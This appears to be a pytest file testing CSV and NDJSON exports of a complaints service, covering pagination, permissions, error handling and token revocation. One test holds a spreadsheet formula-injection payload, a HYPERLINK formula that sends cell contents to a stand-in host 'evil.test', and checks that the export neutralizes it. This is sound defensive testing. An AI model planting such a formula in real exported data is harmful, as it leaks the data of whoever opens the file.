"""Lists as whole files: each one, in both formats, over pages that end on their own, and cut where something fails."""

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import asyncpg
import httpx
import pytest
import uvicorn

from chassis.clock import utc_now
from chassis.db import UnitOfWork
from chassis.exports import BOM
from chassis.ids import new_id
from chassis.rows import Read
from services.complaints.complaints.models import Complaint
from tests.make.catalogue import read_catalogue
from tests.make.complaints import SetClock, complaints_by, create_channel, faulted, made, receive, timeline
from tests.make.edge import gateway, served
from tests.make.house import House, Tenant
from tests.make.rows import UNASSESSED, fill_many
from tests.make.statements import overheard

CSV, LINES = {"Accept": "text/csv"}, {"Accept": "application/x-ndjson"}
COMPLAINT = {
    "receipt_number": "'26-' || i", "category": "'c' || i % 10", "channel": "'other'", "channel_id": "NULL",
    "language": "'zh-CN'", "urgency": "'low'", "impact": "'low'", "priority": "'low'", "registered_at": "now()",
}  # fmt: skip


@pytest.fixture
async def lead(house: House, tenant: Tenant) -> AsyncIterator[httpx.AsyncClient]:
    async with house.client("complaints", tenant, "complaint_lead") as client:
        yield client


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    text = answer.content.decode()
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def items_of(answer: httpx.Response) -> list[dict[str, Any]]:
    assert answer.status_code == 200, answer.text
    return [json.loads(line) for line in answer.content.decode().splitlines()]


async def many(house: House, tenant: Tenant, number: int) -> None:
    """So many complaints of a provider, by the database alone."""
    dsn = house.servers.postgres.dsn("complaints")
    connection = await asyncpg.connect(dsn)
    try:
        await fill_many(
            connection, (await read_catalogue(dsn))["complaint"], {tenant.id: number}, **COMPLAINT | UNASSESSED
        )
    finally:
        await connection.close()


async def test_a_list_is_exported_whole_in_both_formats(house: House, tenant: Tenant, lead: httpx.AsyncClient) -> None:
    await many(house, tenant, 450)
    lines = await lead.get("/v1/complaints", headers=LINES)
    items = items_of(lines)
    assert lines.headers["Content-Type"] == "application/x-ndjson"
    assert lines.headers["Content-Disposition"] == 'attachment; filename="complaints.jsonl"'
    assert len({one["id"] for one in items}) == len(items) == 450
    page = made(await lead.get("/v1/complaints"))["items"]
    assert items[: len(page)] == page
    table = await lead.get("/v1/complaints", headers=CSV)
    assert table.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert table.headers["Content-Disposition"] == 'attachment; filename="complaints.csv"'
    rows = rows_of(table)
    assert [row["id"] for row in rows] == [one["id"] for one in items]
    assert rows[0]["anonymous"] == str(items[0]["anonymous"]).lower()
    assert b"\r\n" in table.content
    assert b"\n" not in table.content.replace(b"\r\n", b"")


async def test_filters_and_sorts_hold_for_an_export_too(lead: httpx.AsyncClient) -> None:
    for category in ("outage", "outage", "billing"):
        await receive(lead, category=category)
    found = items_of(await lead.get("/v1/complaints?category=outage&sort=received_at", headers=LINES))
    assert [one["category"] for one in found] == ["outage", "outage"]
    assert found[0]["received_at"] <= found[1]["received_at"]
    reference = {"system": "servicenow", "id": "INC1"}
    await receive(lead, category="outage", external_reference=reference)
    rows = rows_of(await lead.get("/v1/complaints?category=outage", headers=CSV))
    assert (rows[0]["external_reference.system"], rows[0]["external_reference.id"]) == ("servicenow", "INC1")
    assert rows[1]["external_reference.id"] == ""


async def test_an_empty_list_is_a_header_or_nothing(lead: httpx.AsyncClient) -> None:
    assert rows_of(await lead.get("/v1/complaints", headers=CSV)) == []
    assert (await lead.get("/v1/complaints", headers=CSV)).text.startswith(f"{BOM}id,version,receipt_number,")
    assert (await lead.get("/v1/complaints", headers=LINES)).content == b""


async def test_a_name_that_would_be_a_formula_is_none_in_a_spreadsheet(lead: httpx.AsyncClient) -> None:
    formula = '=HYPERLINK("http://evil.test?"&A1,"click")'
    await create_channel(lead, name=formula)
    (row,) = rows_of(await lead.get("/v1/channels", headers=CSV))
    assert row["name"] == f"'{formula}"
    (item,) = items_of(await lead.get("/v1/channels", headers=LINES))
    assert item["name"] == formula


async def test_a_timeline_is_exported_with_what_lies_within_its_entries(lead: httpx.AsyncClient) -> None:
    complaint = await receive(lead)
    rows = rows_of(await lead.get(f"/v1/complaints/{complaint['id']}/timeline", headers=CSV))
    (entry,) = await timeline(lead, complaint["id"])
    assert rows[0]["type"] == "complaints.complaint.received.v1"
    assert rows[0]["contact.method"] == ""
    assert json.loads(rows[0]["data"]) == entry["data"]


async def test_who_may_not_read_a_list_may_not_export_it(house: House, tenant: Tenant, other_tenant: Tenant) -> None:
    async with house.client("complaints", tenant, "staff") as staff:
        refused = await staff.get("/v1/complaints", headers=CSV)
        assert (refused.status_code, refused.headers["Content-Type"]) == (403, "application/problem+json")
    async with house.client("complaints") as nobody:
        assert (await nobody.get("/v1/complaints", headers=LINES)).status_code == 401
    await many(house, tenant, 3)
    async with house.client("complaints", other_tenant, "reader") as reader:
        assert items_of(await reader.get("/v1/complaints", headers=LINES)) == []
        nothing = await reader.get(f"/v1/complaints/{new_id()}/timeline", headers=LINES)
        assert nothing.status_code == 404


@pytest.mark.parametrize("part", ["limit=10", "cursor=abc", "limit=10&cursor=abc"])
async def test_a_part_of_an_export_is_refused(lead: httpx.AsyncClient, part: str) -> None:
    refused = faulted(await lead.get(f"/v1/complaints?{part}", headers=CSV))
    assert refused == [(f"?{part.partition('=')[0]}", "export_is_whole")]
    assert faulted(await lead.get("/v1/complaints?state=gone", headers=CSV)) == [("?state", "literal_error")]


async def test_a_format_that_there_is_not_is_406_in_the_caller_s_language(lead: httpx.AsyncClient) -> None:
    headers = {"Accept": "application/xml", "Accept-Language": "zh-CN"}
    refused = await lead.get("/v1/complaints", headers=headers)
    assert (refused.status_code, refused.json()["type"]) == (406, "urn:surety:problem:not_acceptable")
    assert refused.json()["detail"] == "可用的格式：application/json, text/csv, application/x-ndjson。"
    whole = await receive(lead)
    assert (await lead.get(f"/v1/complaints/{whole['id']}", headers=headers)).status_code == 200


async def test_no_transaction_is_open_while_a_page_goes_out(house: House, tenant: Tenant) -> None:
    await many(house, tenant, 650)
    app, database = house.apps["complaints"], house.database("complaints")
    free: list[int] = []

    async def watched(scope: Any, receive: Any, send: Any) -> None:
        async def note(message: Any) -> None:
            free.append(database.free._value)
            await send(message)

        await app(scope, receive, note)

    headers = LINES | {"Authorization": f"Bearer {house.token(tenant, 'reader')}"}
    transport = httpx.ASGITransport(watched)
    async with httpx.AsyncClient(transport=transport, base_url="http://complaints.test") as client:
        assert len(items_of(await client.get("/v1/complaints", headers=headers))) == 650
    assert len(free) >= 5
    assert set(free) == {house.settings("complaints").database_pool_size}


async def read_into(seen: bytearray, url: str, headers: dict[str, str]) -> None:
    """Reads an answer for as long as it comes."""
    async with (
        httpx.AsyncClient(trust_env=False) as client,
        client.stream("GET", url, headers=headers) as answer,
    ):
        assert answer.status_code == 200
        async for piece in answer.aiter_raw():
            seen += piece


async def test_a_fault_in_the_middle_does_not_look_like_a_whole_file(
    house: House, tenant: Tenant, monkeypatch: pytest.MonkeyPatch
) -> None:
    await many(house, tenant, 650)
    read, asked = UnitOfWork.read, 0

    async def fail(work: UnitOfWork, what: Read[Any], **values: Any) -> list[Any]:
        nonlocal asked
        asked += what.kinds == (Complaint,)
        if asked > 2:
            raise OSError("the database has gone")
        return await read(work, what, **values)

    monkeypatch.setattr(UnitOfWork, "read", fail)
    config = uvicorn.Config(house.apps["complaints"], port=0, log_level="critical", lifespan="off")
    headers = CSV | {"Authorization": f"Bearer {house.token(tenant, 'reader')}"}
    async with served(config) as url, gateway(house.servers, complaints_url=url) as edge:
        for base in (url, edge.url):
            asked, seen = 0, bytearray()
            with pytest.raises(httpx.RemoteProtocolError):
                await read_into(seen, f"{base}/v1/complaints", headers)
            assert 0 < seen.count(b"\r\n") <= 401


@pytest.mark.parametrize("withdrawn", [False, True])
async def test_an_export_outlives_its_token_but_not_its_withdrawal(
    house: House, tenant: Tenant, withdrawn: bool
) -> None:
    await many(house, tenant, 650)
    clock, client_id = SetClock(utc_now()), new_id()
    async with complaints_by(house, clock) as own:
        revocations = own.apps["complaints"].state.runtime.verifier.revocations

        def end(*more: Any) -> None:
            clock.forward(timedelta(minutes=6))
            if withdrawn:
                revocations.replace({client_id: clock.now})

        config = uvicorn.Config(own.apps["complaints"], port=0, log_level="critical", lifespan="off")
        headers = LINES | {"Authorization": f"Bearer {own.token(tenant, 'reader', client=client_id)}"}
        async with (
            overheard(own.database("complaints"), end),
            served(config) as url,
            httpx.AsyncClient(base_url=url, trust_env=False) as client,
        ):
            if withdrawn:
                with pytest.raises(httpx.RemoteProtocolError):
                    await client.get("/v1/complaints", headers=headers)
            else:
                assert len(items_of(await client.get("/v1/complaints", headers=headers))) == 650
            assert (await client.get("/v1/complaints", headers=headers)).status_code == 401
